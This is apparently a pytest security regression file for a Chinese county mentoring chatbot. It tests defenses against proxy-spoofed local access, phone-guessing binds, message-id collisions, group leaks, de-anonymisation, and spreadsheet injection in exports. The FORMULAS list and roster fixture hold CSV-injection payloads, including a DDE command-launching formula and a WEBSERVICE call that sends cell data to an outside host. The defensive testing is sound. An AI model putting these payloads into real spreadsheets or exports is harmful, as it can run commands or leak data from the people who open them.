"""Issue 11, the attack run replayed: the local channel, message ids, groups, anonymity, exports, odd text.

Each test here failed on main before the fix it names."""

from __future__ import annotations

import datetime as dt
import json
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from aiohttp import ClientSession
from aiohttp.test_utils import TestClient, TestServer
from openpyxl import load_workbook
from sqlmodel import select

from bot.app import Bangdai, local_channel_exposed
from bot.cli import main
from bot.config import Config, Secret
from bot.gateway import Gateway
from bot.inbound import InboundMessage
from conftest import SEEDS, more_people, seeded_with, write
from handlers.sheets.export import export_workbook
from handlers.sheets.roster import import_roster
from storage.models import (BindAttempt, ChatIdentity, ContactLog, Inquiry, OutboxMessage, OutboxStatus, Person,
                            PersonRole)

from sanling_support import count, rows

# Beside the standard roster (u1 mentor 张伟, u2 mentee 李娜, u5 staff 陈静, u6 no role): a second staff
# member, a retired cadre and a 三联 liaison, so every role is there.
MORE_ROSTER = """\
姓名,手机,单位,职务,角色,本地ID
孙丽,13600007777,县委组织部,副部长,管理员,u7
李忠兴,13500001111,县政协,原主席,退职干部,r1
刘洋,13500002222,县委办,科员,三联联系人,l1
"""
LIAISONS = """\
联系人,单位,类型
刘洋,华埠镇,乡镇
"""


SEEDS["everyone"] = ("seeded", more_people(MORE_ROSTER, LIAISONS))


@pytest.fixture
async def everyone(seeded, request, tmp_path):
    return await seeded_with("everyone", request, seeded, tmp_path)


# --- 0. the local channel stays local ----------------------------------------------------------------

async def test_without_a_token_the_local_channel_answers_only_this_machine(bangdai, seeded):
    """A reverse proxy on the same machine (nginx in front for WeCom) makes requests look local: what
    it relays carries X-Forwarded-For / Forwarded and is refused, the inbox included."""
    client = TestClient(TestServer(bangdai.web_app()))
    await client.start_server()
    try:
        ok = await client.post("/api/local/messages", json={"user": "u5", "text": "帮助"})
        assert ok.status == 200
        for header in ({"X-Forwarded-For": "203.0.113.9"}, {"Forwarded": "for=203.0.113.9"},
                       {"X-Real-IP": "203.0.113.9"}):
            resp = await client.post("/api/local/messages", json={"user": "u5", "text": "信箱 待办"}, headers=header)
            assert resp.status == 403 and "[local] token" in (await resp.json())["error"]
            inbox = await client.get("/api/local/inbox/u5", headers=header)
            assert inbox.status == 403
    finally:
        await client.close()


def _outward_address() -> str | None:
    """An address of this machine that is not loopback, if it has one."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.connect(("192.0.2.1", 9))  # no packet is sent: this only picks the outgoing interface
            address = s.getsockname()[0]
        except OSError:
            return None
    return None if address.startswith("127.") else address


async def test_a_request_from_another_address_is_refused_without_a_token_and_served_with_it(services, seeded):
    address = _outward_address()
    if address is None:
        pytest.skip("this machine has no non-loopback address to connect from")
    for token, expected in (("", 403), ("s3cret-token", 200)):
        services.config.local.token = Secret(token)
        server = TestServer(Bangdai(services).web_app(), host="0.0.0.0")
        await server.start_server()
        try:
            headers = {"Authorization": f"Bearer {token}"} if token else {}
            async with ClientSession(headers=headers) as http:
                url = f"http://{address}:{server.port}"
                async with http.post(f"{url}/api/local/messages", json={"user": "u5", "text": "帮助"}) as resp:
                    assert resp.status == expected, await resp.text()
                async with http.get(f"{url}/api/local/inbox/u5") as resp:
                    assert resp.status == expected
                if token:  # and with the token set, a wrong one is refused from anywhere
                    async with http.get(f"{url}/api/local/inbox/u5", headers={"Authorization": "Bearer x"}) as resp:
                        assert resp.status == 401
        finally:
            await server.close()


async def test_the_inbox_needs_the_token_when_one_is_set(services, seeded):
    services.config.local.token = Secret("s3cret-token")
    client = TestClient(TestServer(Bangdai(services).web_app()))
    await client.start_server()
    try:
        assert (await client.get("/api/local/inbox/u2")).status == 401
        resp = await client.get("/api/local/inbox/u2", headers={"Authorization": "Bearer s3cret-token"})
        assert resp.status == 200
    finally:
        await client.close()


def test_serve_refuses_a_reachable_host_with_the_local_channel_and_no_token(tmp_path, capsys):
    config = tmp_path / "config.toml"
    config.write_text(f'[database]\nurl = "sqlite+aiosqlite:///{tmp_path}/x.db"\n[server]\nhost = "0.0.0.0"\n',
                      encoding="utf-8")
    assert main(["serve", "--config", str(config)]) == 2
    err = capsys.readouterr().err
    assert "[local] token" in err and "BANGDAI_LOCAL__TOKEN" in err and "[local] enabled = false" in err
    assert not (tmp_path / "x.db").exists()  # refused before anything was touched

    c = Config()
    for host, token, enabled, refused in (("0.0.0.0", "", True, True), ("::", "", True, True),
                                          ("bangdai.example.gov.cn", "", True, True), ("0.0.0.0", "t", True, False),
                                          ("0.0.0.0", "", False, False), ("127.0.0.1", "", True, False),
                                          ("localhost", "", True, False), ("::1", "", True, False)):
        c.server.host, c.local.token, c.local.enabled = host, Secret(token), enabled
        assert (local_channel_exposed(c) is not None) == refused, (host, token, enabled)


async def test_rotating_account_ids_cannot_guess_a_staff_members_phone(chat, everyone, services, clock):
    """The attack: one guess per fresh local user id, against a staff member with no local account.
    Five wrong guesses lock the name for everyone for an hour — the right guess then binds nobody —
    and staff are told once. An hour later the real person binds."""
    async with services.db.transaction() as s:
        target = Person(name="钱进", phone="13300004321", created_at=clock.now())
        s.add(target)
        await s.flush()
        s.add(PersonRole(person_id=target.id, role="组工干部"))
    guesses = [f"{n:04d}" for n in range(5)]
    for i, guess in enumerate(guesses):
        reply = await chat.say(f"attacker-{i}", f"绑定 钱进 {guess}")
        assert "未能绑定" in reply or "暂停" in reply, reply
    assert "暂停用这个姓名绑定" in await chat.say("attacker-5", "绑定 钱进 4321")
    # …also from another channel, and for the right person's own account
    gateway = Gateway(services)
    [other] = await gateway.handle(InboundMessage(channel="dingtalk", sender_id="dt-x", conversation_id="c",
                                                  text="绑定 钱进 4321"))
    assert "暂停用这个姓名绑定" in other.text
    async with services.db.transaction() as s:
        assert (await s.exec(select(ChatIdentity).where(ChatIdentity.person_id == target.id))).first() is None
    notices = await rows(services, OutboxMessage, OutboxMessage.source == "bind-lock")
    staff_ids = {n.person_id for n in notices}
    assert len(notices) == len(staff_ids) == 3  # 陈静, 孙丽 and 钱进 themselves, once each
    assert all("钱进" in n.body and "5 个聊天账号" in n.body for n in notices)
    for i in range(6, 12):  # tries while locked are not even checked, and tell nobody again
        assert "暂停" in await chat.say(f"attacker-{i}", f"绑定 钱进 {i:04d}")
    assert await count(services, OutboxMessage, OutboxMessage.source == "bind-lock") == 3

    clock.advance(minutes=61)
    assert "绑定成功" in await chat.say("qianjin", "绑定 钱进 4321") or \
        await count(services, ChatIdentity, ChatIdentity.person_id == target.id) == 1
    assert await count(services, ChatIdentity, ChatIdentity.person_id == target.id) == 1


async def test_an_unknown_name_counts_only_against_the_account(chat, everyone, services):
    for i in range(8):
        assert "未能绑定" in await chat.say(f"a{i}", "绑定 没这人 1234")
    assert await count(services, BindAttempt, BindAttempt.person_name.is_(None)) == 8  # type: ignore[union-attr]


async def test_failed_bind_attempts_are_purged_by_the_daily_job(chat, everyone, services, clock):
    from scheduler.runner import run_job

    await chat.say("x1", "绑定 李娜 0000")
    clock.advance(hours=3)
    await chat.say("x2", "绑定 李娜 0001")
    clock.advance(hours=22)  # the first is more than a day old, the second is not
    await run_job(services, "purge_processed_messages", clock.now())
    assert [a.platform_user_id for a in await rows(services, BindAttempt)] == ["x2"]


async def test_binding_is_refused_in_a_group(chat, everyone):
    """Typing a phone's digits into a group shows them to everyone; nothing is checked or counted."""
    assert "私聊" in await chat.say("stranger", "绑定 李娜 3456", group=True, conversation="g1")


# --- 1. a message id is not a key to someone else's answers ------------------------------------------

async def test_colliding_message_ids_across_senders(chat, everyone, services):
    await chat.say("u2", "信箱 匿名 希望了解职级晋升的条件")
    staff_view = await chat.say("u5", "信箱 待办", msg_id="m-1")
    assert "职级晋升" in staff_view
    # the same id from a mentee: their own answer, not the staff member's list
    mine = await chat.say("u2", "本周", msg_id="m-1")
    assert "职级晋升" not in mine and "本周帮带情况" in mine
    # a write under an id someone else used first is not dropped as a copy
    await chat.say("u5", "统计", msg_id="m-2")
    assert "已记录" in await chat.say("u2", "记录 面谈 讨论招商项目推进方法", msg_id="m-2")
    assert await count(services, ContactLog) == 1
    # the same sender's copy is still a copy: same answer, nothing written twice
    assert "已记录" in await chat.say("u2", "记录 面谈 讨论招商项目推进方法", msg_id="m-2")
    assert await count(services, ContactLog) == 1


async def test_dingtalk_copies_are_recognised_per_sender(dingtalk, services, tmp_path):
    """The DingTalk channel reads and writes the gateway's records: a message from another sender that
    reuses an id is handled, not skipped as a redelivery; the same sender's copy still is."""
    from test_dingtalk import ROSTER

    report = await import_roster(services.db, write(tmp_path, "dt.csv", ROSTER), now=services.clock.now())
    assert report.ok
    fake = dingtalk.fake
    first = await fake.push_text("dt_cj", "统计", msg_id="dup-1")
    assert "工作统计" in "".join(s.text for s in await fake.wait_reply(first))
    second = await fake.push_text("dt_zw", "原则", msg_id="dup-1")
    # (the fake files replies by msgId, so both senders' replies are listed under it)
    both = await fake.wait_until(lambda: len(fake.replies_to(second)) == 2 and fake.replies_to(second), 10, "two replies")
    assert any("十帮" in s.text for s in both) and any("工作统计" in s.text for s in both)
    await fake.redeliver(second)
    await fake.wait_acked(second, 2)
    assert len(fake.replies_to(second)) == 2


# --- 3. staff output stays private ---------------------------------------------------------------------

GROUP_ALLOWED = {"帮助", "原则", "流程", "岗位", "排行"}
# Sub-commands handlers dispatch themselves, beyond each command's declared examples.
SUB_ACTIONS = ["广播 状态", "广播 确认", "广播 取消", "季评", "季评 李娜 较好 帮带扎实", "考核", "考核 李娜 优秀",
               "结对 结束 赵强 调离本县", "编组 列表", "编组 新建 招商一组 破山行动专班", "实绩 系数 #1 1.5",
               "实绩 作废 #1 重复记录", "实绩", "信箱 待办", "信箱 分类 #1 待遇", "信箱 关闭 #1 已当面答复",
               "本周", "统计", "答复 #1 已转人社局"]


def _walk(router) -> list[str]:
    texts: list[str] = []
    for command in router.commands:
        texts += [command.keyword, command.alias, *command.examples]
        for child in command.children:  # 编组 新建, and 编组 new: each sub-command by each of its words
            texts += [child.keyword, *(f"{command.keyword} {w}" for w in child.words), *child.examples]
    return list(dict.fromkeys(texts + SUB_ACTIONS))


@pytest.mark.parametrize("staff_user", ["u5", "u7"])
async def test_every_command_from_staff_in_a_group_is_refused_but_the_group_ones(chat, everyone, services,
                                                                                staff_user):
    await chat.say("u2", "信箱 匿名 希望了解职级晋升的条件")
    private_only = services.renderer.text("errors/private_only", command=services.router.find("统计"))
    private_tail = private_only.split("”", 1)[1]
    answered: set[str] = set()
    for text in _walk(services.router):
        reply = await chat.say(staff_user, text, group=True, conversation="g1")
        command = services.router.match(text)[0]
        if reply.endswith(private_tail) or "仅限" in reply:
            said = reply.replace(private_tail, "")  # the refusal's own words, and the (sub-)command it names
            for c in (command, *command.children):
                said = said.replace(f"“{c.keyword}”", "")
            assert text.split(" ", 1)[-1] not in said or " " not in text  # the text is not echoed
            continue
        assert command.keyword in GROUP_ALLOWED, f"{text!r} answered in a group: {reply[:80]}"
        answered.add(command.keyword)
    assert answered == GROUP_ALLOWED
    assert await count(services, Inquiry) == 1  # nothing a refused message said was acted on


async def test_other_roles_keep_their_group_commands_but_not_staff_sub_commands(chat, everyone):
    assert "李娜" in await chat.say("u1", "本周", group=True, conversation="g1")  # a mentor's own pairs
    assert "私聊" in await chat.say("r1", "实绩 系数 #1 1.5", group=True, conversation="g1")
    assert "私聊" in await chat.say("r1", "编组 列表", group=True, conversation="g1")
    assert "排行" in await chat.say("r1", "排行", group=True, conversation="g1")


# --- 4. anonymous means anonymous ----------------------------------------------------------------------

async def test_an_anonymous_letter_from_staff_is_announced_to_every_staff_member_the_writer_too(chat, everyone,
                                                                                              services):
    await chat.say("u5", "信箱 匿名 科室分工不合理")
    told = {m.person_id for m in await rows(services, OutboxMessage, OutboxMessage.source == "mailbox")}
    await chat.say("u2", "信箱 匿名 希望了解职级晋升的条件")
    told_for_other = {m.person_id for m in await rows(services, OutboxMessage, OutboxMessage.source == "mailbox")
                      if m.key.startswith("mailbox-new:2:")}
    assert told == told_for_other and len(told) == 2  # 陈静 (the writer) and 孙丽, as for anyone's letter


async def test_operator_views_show_an_anonymous_answer_without_its_address(chat, everyone, services, tmp_path):
    await chat.say("u2", "信箱 匿名 希望了解职级晋升的条件")
    await chat.say("u6", "信箱 退出现职后的待遇如何落实？")
    await chat.say("u5", "答复 #1 已转人社局")
    await chat.say("u5", "答复 #2 已转人社局")
    async with services.db.transaction() as s:
        for row in (await s.exec(select(OutboxMessage).where(OutboxMessage.key.startswith("mailbox-")))).all():  # type: ignore[attr-defined]
            if "new" not in row.key:
                row.status, row.last_error = OutboxStatus.FAILED, f"用户 {row.user_id} 不存在"
                s.add(row)
    config = tmp_path / "cli.toml"
    config.write_text(f'[database]\nurl = "{services.config.database.url}"\n', encoding="utf-8")
    env = {"PYTHONPATH": str(Path(__file__).resolve().parent.parent), "PATH": "/usr/bin:/bin"}
    out = subprocess.run([sys.executable, "-m", "bot.cli", "outbox", "--failed", "--config", str(config)],
                         capture_output=True, text=True, timeout=60, env=env).stdout
    lines = out.splitlines()
    anonymous = [line for line in lines if "匿名来信答复 #1" in line]
    assert len(anonymous) == 1 and "***" in anonymous[0]
    assert "u2" not in out  # not as the address, not inside the platform's error text
    signed = [line for line in lines if "local:u6" in line]
    assert len(signed) == 1  # a signed letter's answer is shown as it is


# --- 7. exports are data, never formulas -----------------------------------------------------------------

FORMULAS = ['=1+1', '=cmd|\' /C calc\'!A0', '+1+1', '-1+2', '@SUM(1)', '=WEBSERVICE("http://x.cn/?"&D2)',
            '\t=1+1', '\r=1+1']


async def test_the_export_has_no_formula_cells_whatever_people_typed(chat, everyone, services, tmp_path):
    roster = ("姓名,手机,单位,职务,角色,本地ID\n"
              "吴昊,13500003333,\"=HYPERLINK(\"\"http://x.cn\"\",\"\"点\"\")\",=1+1,徒弟,m9\n")
    report = await import_roster(services.db, write(tmp_path, "f.csv", roster), now=services.clock.now())
    assert report.ok, report.lines()
    for i, formula in enumerate(FORMULAS):
        await chat.say("u1", f"记录 李娜 面谈 {formula}")
        await chat.say("u1", f"计划 李娜 添加 {formula}")
        await chat.say("u2", f"信箱 {formula}")
        await chat.say("l1", f"走访 华埠镇 {formula}")
        await chat.say("r1", f"承诺 {formula}")
    await chat.say("u5", "答复 #1 =1+1")
    await chat.say("u5", "信箱 关闭 #2 =1+1")
    await chat.say("u5", "季评 李娜 较好 =1+1")
    await chat.say("u5", "结对 结束 赵强 =1+1")
    path = tmp_path / "out.xlsx"
    await export_workbook(services.db, path, services.clock)
    wb = load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for formula in ("=1+1", "=cmd|' /C calc'!A0", "@SUM(1)"):  # kept, readable, inert
        assert any(t.startswith("'") and formula in t for t in texts), formula


# --- 6. nothing typed crashes ---------------------------------------------------------------------------

async def test_non_decimal_unicode_digits_are_not_numbers(chat, everyone, services, tmp_path):
    await chat.say("u1", "计划 李娜 添加 熟悉信访工作流程")
    reply = await chat.say("u1", "计划 李娜 完成 ᧚")
    assert "序号" in reply and "例如" in reply
    assert "六大员" in await chat.say("r1", "报名 ፩") or "岗位" in await chat.say("r1", "报名 ፩")
    assert "请写上" in await chat.say("u5", "实绩 系数 #١ 1.5")
    assert "后四位" in await chat.say("stranger", "绑定 李娜 ٣٤٥٦")
    roster = "姓名,手机,单位,职务,角色,出生年份\n吴昊,13500003333,县委办,科员,,፩፱፰፭\n"
    report = await import_roster(services.db, write(tmp_path, "y.csv", roster), now=services.clock.now())
    assert not report.ok and any("出生年份" in line for line in report.lines())
    assert "序号" in await chat.say("u1", "计划 李娜 完成 99999999999999999999999")


async def test_lone_surrogates_and_control_characters_get_an_answer_not_a_500(client, everyone, services):
    for text in ('"本周 \\ud800"', '"\\udfff信箱 查询"', '"记录 面谈 \\ud83d讨论"', '"帮助\\u0000"',
                 '"记录 面谈 讨论\\u0000招商"'):
        for user in ('"u1"', '"u\\ud800"'):
            body = f'{{"user": {user}, "text": {text}, "msg_id": "m\\udc00"}}'.encode()
            resp = await client.post("/api/local/messages", data=body, headers={"Content-Type": "application/json"})
            assert resp.status == 200, (text, await resp.text())
            replies = (await resp.json())["replies"]
            assert replies and not any("出了点问题" in r["text"] for r in replies), replies
    assert "\x00" not in "".join(c.note for c in await rows(services, ContactLog))
